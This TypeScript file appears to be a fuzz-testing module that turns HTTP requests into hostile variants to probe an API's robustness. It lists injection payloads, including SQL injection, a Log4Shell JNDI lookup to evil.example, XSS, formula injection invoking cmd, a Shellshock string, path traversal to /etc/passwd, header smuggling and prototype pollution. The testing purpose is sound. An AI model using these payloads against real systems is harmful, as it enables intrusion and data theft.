// Requests that mean harm.
import { fc } from '../support/random.ts'
import type { Random } from '../support/random.ts'
import { canary } from './canary.ts'
import { type Draft, encoded, toPath, findPlaces } from './request.ts'
import type { Pool } from './pool.ts'

type Attack = (draft: Draft, pool: Pool) => boolean

export function attack(draft: Draft, pool: Pool): Draft {
  const armed: Draft = { ...draft, mood: 'hostile' }
  const names = Object.keys(attacks)
  for (let turn = 0; turn < 30; turn++) {
    const name = pool.random.pick(names)
    armed.bent = name
    if ((attacks[name] as Attack)(armed, pool)) return armed
  }
  return armed
}

const texts: readonly string[] = [
  "' OR 1=1--",
  "'; DROP TABLE accounts; --",
  "1' AND pg_sleep(5)--",
  '") RETURNING password_hash --',
  '{"$gt":""}',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '#{7*7}',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("https://evil.example")',
  '@SUM(1+1)*cmd|/C calc!A0',
  '%s%s%n%x',
  '../../../../etc/passwd',
  '..\\..\\windows',
  'a\r\nSet-Cookie: x=y',
  '{"level":60,"message":"forged"}\n{"level":60}',
  '\u001b[31mred\u001b[0m',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202Egnp.exe',
  '\u2028\u2029',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  '1e400',
  '-0',
  '999999999999999999999999',
  '0x1F',
  'null',
  'Ａ'.repeat(64),
  '\u0301'.repeat(100),
  'a'.repeat(5000),
]

const anyText = (random: Random): string =>
  random.chance(70)
    ? `${random.chance(50) ? canary : ''}${random.pick(texts)}`
    : random.draw(random.pick(anyStrings))

// Made once: fast-check prepares them at length.
const anyStrings = (['binary', 'grapheme'] as const).map((unit) =>
  fc.string({ unit, maxLength: 200 }),
)
const anyJson = fc.jsonValue()
const anyBytes = fc.uint8Array({ minLength: 1, maxLength: 300 })

const anyValue = (random: Random): unknown =>
  random.pick([
    () => anyText(random),
    () => anyText(random),
    () => random.draw(anyJson),
    () => ({ $gt: '' }),
    () => ({ $ne: null, [canary]: 1 }),
    () => nested(random.pick([15, 16, 17, 200]), random.chance(50)),
    () => Array.from({ length: 3000 }, () => 0),
    () => random.pick([1e308, -1e308, 2 ** 53, -1, 0.1, 1e-7]),
  ])()

function nested(depth: number, isList: boolean): unknown {
  let value: unknown = 1
  for (let level = 0; level < depth; level++) value = isList ? [value] : { a: value }
  return value
}

const poisons: readonly string[] = [
  '"__proto__":{"isAdmin":true,"polluted":true}',
  '"constructor":{"prototype":{"polluted":true}}',
  '"\\u005f_proto__":{"polluted":true}',
  '"prototype":{"polluted":true}',
  '"toString":"x"',
  '"hasOwnProperty":null',
]

const fields: readonly [name: string, values: readonly string[]][] = [
  [
    'accept',
    ['text/html', 'application/xml;q=0.1', '*/*;q=0', 'x'.repeat(3000), ';;;', 'text/csv'],
  ],
  ['accept-encoding', ['gzip, br', 'identity;q=0', '*;q=0']],
  ['accept-language', [canary, '../../etc/passwd']],
  ['range', ['bytes=0-0', 'bytes=-1', 'bytes=0-,0-,0-']],
  ['if-match', ['*', `"${canary}"`]],
  ['if-none-match', ['*', `"${canary}"`]],
  ['if-modified-since', ['Sat, 01 Jan 2039 00:00:00 GMT', 'x']],
  ['content-encoding', ['gzip', 'identity', 'br, gzip', canary]],
  ['x-request-id', [canary, '../x', '00000000-0000-0000-0000-000000000000']],
  ['x-forwarded-for', ['127.0.0.1', `${canary}, 10.0.0.1`, '::1', "' OR 1=1--"]],
  ['x-forwarded-proto', ['http', 'https', canary]],
  ['x-forwarded-host', ['evil.example', canary]],
  ['forwarded', ['for=127.0.0.1;proto=http;host=evil.example']],
  ['x-original-url', ['/api/v1/admin/users']],
  ['x-rewrite-url', ['/api/v1/admin/users']],
  ['x-http-method-override', ['DELETE', 'PATCH']],
  ['host', ['evil.example', 'localhost', '127.0.0.1:1', '[::1]', 'evil.example:80@x', canary, '']],
  ['origin', ['https://evil.example', 'null', canary]],
  ['referer', [`https://x.example/?token=${canary}`]],
  ['user-agent', [`${canary} \${jndi:ldap://x}`, '() { :; }; echo x', '']],
  ['cookie', [`session=${canary}; token=${canary}`, 'a=b; '.repeat(200)]],
  ['transfer-encoding', ['identity', 'gzip, chunked', 'xchunked']],
  ['expect', ['100-continue', canary]],
  ['upgrade', ['h2c', 'websocket', 'TLS/1.0']],
  ['content-type', [`application/json; charset=${canary}`, `${canary}/x`]],
  ['idempotency-key', ["' OR 1=1--", '${jndi:x}', '\u00ff', '__proto__', 'x'.repeat(255)]],
  ['authorization', [`Bearer ${canary}`, `Bearer ${'x'.repeat(5000)}`, 'Bearer eyJ.eyJ.x', "'"]],
  ['x-api-version', [canary]],
]

const segments: readonly string[] = [
  '..%2f..%2fadmin',
  '%2e%2e',
  '..',
  '.',
  '%00',
  '%ff',
  '%zz',
  '%u0041',
  '*',
  ':accountId',
  '%0d%0aSet-Cookie:%20x=y',
  '%E2%80%AE',
  "'%20OR%201=1--",
  encoded(`{"$gt":"${canary}"}`),
  'x'.repeat(101),
  'x'.repeat(300),
  `${canary}%3Cscript%3E`,
]

const attacks: Record<string, Attack> = {
  'a value': (draft, { random }) => {
    const places = findPlaces(draft)
    if (places.length === 0) return false
    const { holder, key, part } = random.pick(places)
    holder[key] = part === 'body' ? anyValue(random) : anyText(random)
    return true
  },
  'all values': (draft, { random }) => {
    const places = findPlaces(draft).filter(({ part }) => part !== 'params')
    for (const { holder, key } of places) holder[key] = anyText(random)
    return places.length > 0
  },
  'a poisoned key': (draft, { random }) => {
    const text = JSON.stringify(draft.body ?? {})
    const comma = text === '{}' ? '' : ','
    draft.payload = `${text.slice(0, -1)}${comma}${random.pick(poisons)}}`
    return true
  },
  'a poisoned query': (draft, { random }) => {
    draft.search = random.pick([
      '?__proto__=1',
      '?__proto__[polluted]=1',
      '?constructor.prototype.polluted=1',
      '?%00=1',
      '?limit=%00',
      '?limit=%ff',
      '?cursor=%zz',
      `?${'a=1&'.repeat(500)}`,
      `?${'a'.repeat(4000)}=1`,
      '?&&&===',
      `?limit=${random.pick(['0', '-1', '1e2', '0x10', '10.0', '00', '9999999999', ' 1', '１'])}`,
    ])
    return true
  },
  'a segment': (draft, { random }) => {
    const parts = toPath(draft).split('/')
    const index = 1 + random.below(parts.length - 1)
    parts[index] = random.pick(segments)
    draft.path = parts.join('/')
    return true
  },
  'a header': (draft, { random }) => {
    const [name, values] = random.pick(fields)
    draft.headers = draft.headers.filter(([each]) => each !== name)
    draft.headers.push([name, random.pick(values)])
    return true
  },
  'many headers': (draft, { random }) => {
    const count = random.pick([5, 60, 99, 130])
    for (let each = 0; each < count; each++) draft.headers.push([`x-${canary}-${each}`, canary])
    return true
  },
  'a header twice': (draft, { random }) => {
    const name = random.pick(['host', 'content-type', 'authorization', 'accept', 'idempotency-key'])
    draft.headers.push([name, 'x'], [name, 'y'])
    return true
  },
  'raw bytes in a header': (draft, { random }) => {
    const bytes = random.pick([
      '\u0000',
      '\u0001',
      '\u001b[31m',
      '\u007f',
      '\u00ff\u00fe',
      '\u000b',
    ])
    draft.headers.push([random.pick(['user-agent', 'x-y', 'referer']), `${canary}${bytes}`])
    draft.via = 'raw'
    return true
  },
  'an odd method': (draft, { random }) => {
    draft.method = random.pick(['TRACE', 'get', 'FOO', canary.toUpperCase(), 'QUERY', 'CONNECT'])
    draft.via = 'raw'
    return true
  },
  'a huge body': (draft, { random }) => {
    const size = random.pick([30_000, 65_000, 66_000, 200_000])
    draft.payload = random.pick([
      () => `{"a":"${'x'.repeat(size)}"}`,
      () => '['.repeat(size),
      () => '{"a":'.repeat(size / 5),
      () => `{${Array.from({ length: size / 12 }, (_, key) => `"k${key}":1`).join()}}`,
      () => ' '.repeat(size),
    ])()
    return true
  },
  'bytes for a body': (draft, { random }) => {
    draft.payload = Buffer.from(random.draw(anyBytes))
    return true
  },
  'an odd cursor': (draft, { random, cursors }) => {
    if (draft.route.query?.properties['cursor'] === undefined || cursors.length === 0) return false
    const { cursor } = random.pick(cursors)
    const bytes = Buffer.from(cursor, 'base64url')
    const at = random.below(bytes.length)
    bytes[at] = (bytes[at] ?? 0) ^ (1 << random.below(8))
    const odd = [
      cursor,
      bytes.toString('base64url'),
      `${cursor}A`,
      cursor.slice(1),
      '-',
      '_'.repeat(400),
    ]
    draft.query['cursor'] = random.pick(odd)
    return true
  },
}
